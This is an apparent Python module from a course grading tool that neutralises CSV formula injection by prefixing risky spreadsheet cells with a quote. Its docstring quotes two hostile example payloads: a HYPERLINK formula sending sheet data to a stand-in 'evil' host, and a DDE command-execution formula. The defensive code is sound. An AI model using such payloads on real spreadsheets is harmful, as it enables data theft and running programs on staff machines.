"""CSV files that a spreadsheet opens as data: no cell the grader writes can start a formula.

Course staff open ``free-text.csv``, ``scores.csv`` and the LMS import files in Excel, LibreOffice or
Google Sheets, which read a cell starting with ``=`` (or ``+ - @``) as a formula: a student's free-text
answer ``=HYPERLINK("http://evil/?"&A1,"click")`` would become a link that leaks the sheet, and
``=cmd|' /C calc'!A0`` a program run through DDE ("CSV injection"). Every CSV file the grader writes goes
through :func:`writer`, which passes each text cell through :func:`inert_cell`: a cell that could start a
formula gets a leading single quote, as OWASP recommends (spreadsheets show ``'=HYPERLINK(...)`` as that
text; the csv module already quotes separators, quotes and newlines).

Which cells count (OWASP's list is the minimum):

- the first character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP), or a line feed;
- the first character after leading whitespace and invisible format characters (spaces, no-break spaces,
  zero-width spaces, byte-order marks, bidi marks: some spreadsheets and import dialogs trim them) is
  ``= + - @`` or, as a precaution, their full-width forms ``＝ ＋ － ＠`` (East Asian input methods turn
  them into formula signs).

A cell that is exactly a decimal number (``-1.5``, ``+2``, ``1e+06``) is left alone: a spreadsheet reads it
as that number and nothing else, so scores stay numbers, negative ones too. Numbers passed as ``int`` or
``float`` are written as they are. A line break inside a cell is not a cell start: the csv module quotes
the cell, and spreadsheets and the LMS importers read a quoted cell as one cell (RFC 4180), so an answer with a
line that starts ``=1+1`` further down is left unchanged.

Identifiers an LMS matches students by cannot be prefixed without breaking the match; the exports refuse
them instead (:func:`formula_start` names the character, see ``grader.export.formats``).
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any, TextIO

PREFIX = "'"  #: what makes a cell inert: spreadsheets read a leading quote as "this cell is text"
OWASP_STARTS = frozenset("=+-@\t\r")  #: first characters OWASP names
FIRST_CHARACTERS = OWASP_STARTS | {"\n"}  #: dangerous as a cell's very first character
FORMULA_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")  #: dangerous after trimmed leading characters
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def _trimmable(char: str) -> bool:
    """Whitespace, or an invisible format character (zero-width space, BOM, bidi marks)."""
    return char.isspace() or unicodedata.category(char) == "Cf"


def formula_start(text: str) -> str | None:
    """The character that would make a spreadsheet read ``text`` as a formula, or None when it cannot."""
    if not text or _NUMBER.fullmatch(text):
        return None
    if text[0] in FIRST_CHARACTERS:
        return text[0]
    first = next((c for c in text if not _trimmable(c)), "")
    return first if first in FORMULA_SIGNS else None


def inert_cell(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs: text that could start a formula gets a leading ``'``.

    Anything that is not a ``str`` (an ``int`` or ``float`` score, ``None``) is returned unchanged.
    """
    if isinstance(value, str) and formula_start(value) is not None:
        return PREFIX + value
    return value


class InertWriter:
    """:func:`csv.writer` whose every cell goes through :func:`inert_cell`."""

    def __init__(self, fh: TextIO) -> None:
        self._writer = csv.writer(fh)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([inert_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: TextIO) -> InertWriter:
    """The only way the grader writes CSV: like :func:`csv.writer`, with every text cell made inert."""
    return InertWriter(fh)
